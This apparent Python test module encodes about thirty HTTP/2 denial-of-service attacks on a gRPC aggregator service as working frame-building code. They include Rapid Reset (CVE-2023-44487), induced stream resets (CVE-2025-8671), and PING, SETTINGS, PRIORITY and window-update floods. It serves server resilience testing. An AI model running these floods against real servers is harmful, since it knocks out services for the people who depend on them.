"""Frames in masses: each is legal, or nearly, and cheap to send."""

from __future__ import annotations

import itertools
import os
from collections.abc import Iterator

from tests.attacks import frames, payloads
from tests.attacks.catalogue import CALM, MTLS, PLAINTEXT, WRONG, Stage, attack
from tests.attacks.wire import Wire

BOTH = (PLAINTEXT, MTLS)
MANY = 2_000


def forever(piece: bytes, first: bytes = b"") -> Iterator[bytes]:
    """Give ``first`` and then ``piece`` again and again."""
    yield first
    yield from itertools.repeat(piece)


def pairs_of(stage: Stage, *, body: bytes, code: int, size: int = 1_000) -> list[bytes]:
    """Return blobs of calls that are reset as soon as they are made; each blob is ``size`` calls."""
    fields = stage.fields(payloads.AGGREGATOR + "GetTasks")
    blobs = []
    for start in range(0, 20 * size, size):
        parts = []
        for stream in range(2 * start + 1, 2 * (start + size), 2):
            parts.append(frames.headers(stream, fields, end=not body))
            if body:
                parts.append(frames.data(stream, body, end=True))
            parts.append(frames.reset(stream, code))
        blobs.append(b"".join(parts))
    return blobs


def waiting_calls(stage: Stage, count: int, *, end: bool = True) -> bytes:
    """Return ``count`` calls that wait for the next round; without ``end`` the caller may still send."""
    fields = stage.fields(payloads.AGGREGATOR + "GetAggregatedTensor")
    body = payloads.get_tensor(stage.target.name, payloads.SMALL, round_number=1)
    return b"".join(
        frames.headers(stream, fields) + frames.data(stream, body, end=end) for stream in range(1, 2 * count, 2)
    )


def upload_begun(stage: Stage) -> bytes:
    """Return an upload on stream 1 that says who sends it and nothing more."""
    fields = stage.fields(payloads.AGGREGATOR + "SendLocalTaskResults")
    head = payloads.chunks(payloads.task_results(stage.target.name, b""))
    return frames.headers(1, fields) + frames.data(1, head)


@attack(ends=CALM, bounded=BOTH)
def rapid_reset(stage: Stage) -> None:
    """Make calls and reset each at once (CVE-2023-44487)."""
    blobs = pairs_of(stage, body=b"", code=frames.CANCEL)
    stage.flood(lambda wire: iter(blobs))


@attack(ends=CALM)
def rapid_reset_after_message(stage: Stage) -> None:
    """Send whole calls, so that a handler starts, and reset each at once."""
    blobs = pairs_of(stage, body=payloads.get_tasks(stage.target.name), code=frames.NO_ERROR)
    stage.flood(lambda wire: iter(blobs))


@attack(ends=WRONG)
def reset_again(stage: Stage) -> None:
    """Make one call and reset it over and over."""
    fields = stage.fields(payloads.AGGREGATOR + "GetTasks")
    stage.flood(lambda wire: forever(frames.reset(1) * MANY, frames.headers(1, fields)))


@attack(ends=CALM, bounded=(MTLS,))
def ping_flood(stage: Stage) -> None:
    """PING without end."""
    stage.flood(lambda wire: forever(frames.ping() * MANY))


@attack(ends=CALM, bounded=(PLAINTEXT,))
def ping_unread(stage: Stage) -> None:
    """PING without end, and read none of the answers."""
    stage.flood(lambda wire: forever(frames.ping() * MANY), reading=False)


@attack(ends=CALM)
def ping_answers(stage: Stage) -> None:
    """Answer PINGs that nobody sent."""
    stage.flood(lambda wire: forever(frames.frame(frames.PING, frames.ACK, 0, bytes(8)) * MANY))


@attack(ends=CALM)
def settings_flood(stage: Stage) -> None:
    """SETTINGS without end."""
    stage.flood(lambda wire: forever(frames.settings((frames.ENABLE_PUSH, 0)) * MANY))


@attack(ends=CALM)
def settings_answers(stage: Stage) -> None:
    """Acknowledge SETTINGS that nobody sent."""
    stage.flood(lambda wire: forever(frames.frame(frames.SETTINGS, frames.ACK, 0) * MANY))


@attack(ends=CALM)
def window_flip(stage: Stage) -> None:
    """Change the window of a hundred open calls up and down."""
    flip = [frames.settings((frames.INITIAL_WINDOW_SIZE, size)) for size in (0, 65_535)]
    stage.flood(lambda wire: forever(b"".join(flip) * (MANY // 2), waiting_calls(stage, 100)))


@attack(ends=CALM)
def table_flip(stage: Stage) -> None:
    """Change the size of the server's header table up and down."""
    flip = [frames.settings((frames.HEADER_TABLE_SIZE, size)) for size in (0, 65_536)]
    stage.flood(lambda wire: forever(b"".join(flip) * (MANY // 2)))


@attack(ends=CALM)
def priority_flood(stage: Stage) -> None:
    """PRIORITY for streams that do not exist."""
    orders = [frames.frame(frames.PRIORITY, 0, stream, b"\0\0\0\0\x10") for stream in range(1, 2 * MANY, 2)]
    stage.flood(lambda wire: forever(b"".join(orders)))


@attack(ends=CALM)
def window_update_flood(stage: Stage) -> None:
    """Grant single bytes to a hundred open calls and the connection."""
    grants = b"".join(frames.window_update(stream, 1) for stream in (0, *range(1, 200, 2))) * 20

    def script(wire: Wire) -> Iterator[bytes]:
        # the connection's window is not filled by the greeting, or each grant would overflow it
        yield waiting_calls(stage, 100)
        yield from itertools.repeat(grants)

    while stage.going():
        wire = stage.dial()
        wire.send(frames.PREFACE + frames.settings())
        for piece in script(wire):
            if not wire.send(piece):
                break


@attack(ends=CALM)
def unknown_frames(stage: Stage) -> None:
    """Frames of types that nobody defined."""
    odd = [frames.frame(0x20 + kind % 200, 0xFF, kind, os.urandom(8)) for kind in range(MANY)]
    stage.flood(lambda wire: forever(b"".join(odd)))


@attack(ends=CALM)
def unknown_large_frames(stage: Stage) -> None:
    """Frames of an unknown type, as large as every server must take."""
    stage.flood(lambda wire: forever(frames.frame(0xB0, 0, 0, bytes(16_384)) * 8))


@attack(ends=WRONG)
def goaway_flood(stage: Stage) -> None:
    """Say goodbye and stay."""
    stage.flood(lambda wire: forever(frames.frame(frames.GOAWAY, 0, 0, bytes(8)) * MANY))


@attack(ends=CALM, bounded=(PLAINTEXT,))
def empty_data(stage: Stage) -> None:
    """DATA frames without a byte, on an upload."""
    stage.flood(lambda wire: forever(frames.data(1, b"") * MANY, upload_begun(stage)))


@attack(ends=CALM)
def empty_data_unread(stage: Stage) -> None:
    """DATA frames without a byte, on a call whose handler has all it wants."""
    stage.flood(lambda wire: forever(frames.data(1, b"") * MANY, waiting_calls(stage, 1, end=False)))


@attack(ends=CALM, bounded=(PLAINTEXT,))
def tiny_data(stage: Stage) -> None:
    """DATA frames of one byte each, of one long chunk."""

    def script(wire: Wire) -> Iterator[bytes]:
        yield upload_begun(stage)
        yield frames.data(1, payloads.message(bytes(2**21))[:9])
        # as far as every window reaches, then again on a new stream
        for stream in itertools.count(3, 2):
            yield from itertools.repeat(frames.data(1, b"\0") * MANY, 30)
            yield frames.headers(stream, stage.fields(payloads.AGGREGATOR + "GetTasks"))

    stage.flood(script)


@attack(ends=WRONG)
def padded_data(stage: Stage) -> None:
    """DATA frames that hold padding and nothing else."""
    padding = frames.frame(frames.DATA, frames.PADDED, 1, b"\xff" + bytes(255))
    stage.flood(lambda wire: forever(padding * 100, upload_begun(stage)))


@attack(ends=WRONG)
def half_closed_data(stage: Stage) -> None:
    """DATA on a call whose caller said that it was done."""
    stage.flood(lambda wire: forever(frames.data(1, b"\0") * MANY, waiting_calls(stage, 1)))


@attack(ends=WRONG)
def half_closed_headers(stage: Stage) -> None:
    """HEADERS again and again on a call that has ended its side."""
    again = frames.headers(1, stage.fields(payloads.AGGREGATOR + "GetTasks"), end=True)
    stage.flood(lambda wire: forever(again * 500, waiting_calls(stage, 1)))


def provoked(stage: Stage, wrong: bytes, *, each: int = 1) -> None:
    """Make calls that wait and do to each something for which the server resets it ("{}" is the stream)."""
    fields = stage.fields(payloads.AGGREGATOR + "GetAggregatedTensor")
    body = payloads.get_tensor(stage.target.name, payloads.SMALL, round_number=1)

    def script(wire: Wire) -> Iterator[bytes]:
        for start in range(1, 40_000, 400):
            parts = []
            for stream in range(start, start + 400, 2):
                parts.append(frames.headers(stream, fields) + frames.data(stream, body, end=True))
                parts.append(wrong.replace(b"\xab\xcd\xef\x01", stream.to_bytes(4, "big")) * each)
            yield b"".join(parts)

    stage.flood(script)


STREAM = 0xABCDEF01  # replaced by the number of the stream


def _on_stream(kind: int, payload: bytes) -> bytes:
    size = len(payload).to_bytes(3, "big")
    return size + bytes([kind, 0]) + STREAM.to_bytes(4, "big") + payload


@attack(ends=WRONG, bounded=(MTLS,))
def provoke_by_no_window(stage: Stage) -> None:
    """Make the server reset each call: WINDOW_UPDATE of zero (CVE-2025-8671)."""
    provoked(stage, _on_stream(frames.WINDOW_UPDATE, bytes(4)))


@attack(ends=WRONG)
def provoke_by_overflow(stage: Stage) -> None:
    """Make the server reset each call: more window than there can be."""
    provoked(stage, _on_stream(frames.WINDOW_UPDATE, frames.LARGEST_WINDOW.to_bytes(4, "big")))


@attack(ends=WRONG)
def provoke_by_late_data(stage: Stage) -> None:
    """Make the server reset each call: DATA after its end."""
    provoked(stage, _on_stream(frames.DATA, b"\0"))


@attack(ends=WRONG)
def provoke_by_dependency(stage: Stage) -> None:
    """Make the server reset each call: a stream that depends on itself."""
    provoked(stage, _on_stream(frames.PRIORITY, STREAM.to_bytes(4, "big") + b"\x10"))


@attack(ends=WRONG)
def provoke_by_length(stage: Stage) -> None:
    """Make the server reset each call: a content-length that is not true."""
    fields = stage.fields(payloads.AGGREGATOR + "GetTasks", [("content-length", "7")])
    body = payloads.get_tasks(stage.target.name)
    calls = [
        b"".join(
            frames.headers(stream, fields) + frames.data(stream, body, end=True)
            for stream in range(start, start + 1_000, 2)
        )
        for start in range(1, 20_000, 1_000)
    ]
    stage.flood(lambda wire: iter(calls))
